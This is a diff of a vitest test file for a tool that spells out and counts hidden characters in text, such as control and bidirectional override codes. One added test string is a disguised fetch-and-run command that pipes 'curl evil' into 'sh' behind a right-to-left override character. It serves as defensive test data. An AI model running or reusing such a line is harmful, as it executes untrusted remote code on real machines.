@@ -3,7 +3,7 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { briefCommand, prettyJson } from '../../src/app/format';
-import { escapeHidden } from '../../src/core/text';
+import { countHidden, escapeHidden } from '../../src/core/text';
 import { SHARED } from './helpers/tools';
 
 function history(path: string): string[] {
@@ -48,6 +48,11 @@ describe('hidden characters spelled out', () => {
     );
     expect(escapeHidden('apt-get update \\\n\t&& \u2066x', true)).toBe('apt-get update \\\n\t&& \\u2066x');
     expect(escapeHidden('a\nb\u0007')).toBe('a\\nb\\u0007');
+    // A file's text: CRLF and tabs stay, the rest is spelled out and counted.
+    const script = 'echo safe\r\n\tcurl evil \u202e| sh\u0000\r\n';
+    expect(escapeHidden(script, true)).toBe('echo safe\r\n\tcurl evil \\u202E| sh\\0\r\n');
+    expect(countHidden(script, true)).toBe(2);
+    expect(countHidden(script)).toBe(7);
   });
 
   it('raw JSON: the escapes are JSON escapes, so the text is the same document', () => {
